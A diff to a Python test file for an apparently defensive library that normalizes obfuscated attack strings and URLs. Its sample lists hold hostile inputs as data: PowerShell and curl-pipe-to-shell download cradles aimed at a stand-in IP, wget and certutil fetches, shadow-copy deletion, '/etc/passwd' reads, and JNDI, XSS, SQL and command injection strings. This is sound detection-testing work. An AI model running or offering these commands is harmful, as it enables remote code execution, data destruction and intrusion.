@@ -13,6 +13,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from edge_demist import decoding
+from edge_demist.addresses import page
+from edge_demist.hostnames import hostname, query_name
 from edge_demist.normalizers import (
     NORMALIZERS,
     cased_command,
@@ -20,9 +22,6 @@ from edge_demist.normalizers import (
     command,
     file_words,
     header,
-    hostname,
-    page,
-    query_name,
     request,
     to_bytes,
     undisguised,
@@ -166,7 +165,7 @@ def test_bytes_of_a_tunnel_are_letters_and_words_stay(encode):
 
 @given(st.text(" \t\u200b\xa0a\x00\udca0\u2028\ufeff", max_size=12) | st.text(max_size=20))
 def test_the_short_way_to_single_blanks_is_the_long_one(text):
-    assert decoding.one_blank(text) == decoding._BLANKS.sub(" ", text).strip(" ")
+    assert decoding.one_blank(text) == decoding._BLANKS.sub(" ", decoding._WITHIN_WORDS.sub("", text)).strip(" ")
 
 
 @given(st.text(max_size=300), st.sampled_from(NEW))
@@ -240,13 +239,15 @@ def test_every_change_applies_to_something(task):
             "${jndi:ldap://x/a}",
             "<a href=javascript:alert(1)>",
             "<img src=x onerror=alert(1)>",
-            "1 and 2",
+            "1 and 2 = 'abc' -- ",
+            "1 union select 'abc'",
+            "x;whoami",
         ],
         "cmdline": [
             "powershell -c IEX(iwr 'http://198.51.100.7/abcdefgh')",
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
         ],
-        "url-phishing": ["login.example.com/a/b.php", "198.51.100.7/a/"],
+        "url-phishing": ["login.example.com/a/b.php", "198.51.100.7/a/", "a-b.example.com/a.php"],
     }[task] + ["curl http://198.51.100.7/x | sh"]
     texts += [
         "print('download')",
@@ -254,6 +255,9 @@ def test_every_change_applies_to_something(task):
         "cd /tmp; wget -q http://x/y",
         "certutil -f http://x/y",
         "vssadmin delete shadows /all",
+        "C:\\Windows\\a.exe -x /y",
+        "cat /etc/passwd",
+        "a.exe",
     ] * (task == "cmdline")
     for name, change in {**evasion.CHANGES[task], **evasion.FURTHER[task]}.items():
         made = [found for text in texts if (found := change(rng, text))]
@@ -306,6 +310,10 @@ def test_invented_changes_are_undone_too():
     assert request("/find?file=/..\\..\\windows\\win.ini") == "/find?file=/..\\..\\windows\\win.ini"
     for kept in ("LD_PRELOAD=/tmp/x.so sshd", "HISTFILE=/dev/null bash", "cat c:\\a\\b\\c", "FOO=1", "sudo -l", "sh -c 'a' 'b'"):
         assert command(kept) == kept.lower()
+    address = "login.example.com/a/b.php"
+    for name in ("three trailing dots", "a trailing dot and a blank", "%2e behind the host", "two folders taken back", "encoded whole",
+                 "two users before @", "in backticks", "as Markdown", " [.] ", "https:// twice", "https: without slashes"):  # fmt: skip
+        assert NORMALIZERS["page"](evasion.FURTHER["url-phishing"][name](rng, address)) == address, name
     text = "powershell -c \"iex(-join('x/7.001.15.891//:ptth lruc'[-1..-25]))\""
     assert "curl http://198.51.100.7/x" in command(text)
     assert command("& $env:ComSpec[4,15,25]-join'' (irm http://198.51.100.7/x)").startswith("& iex (irm")
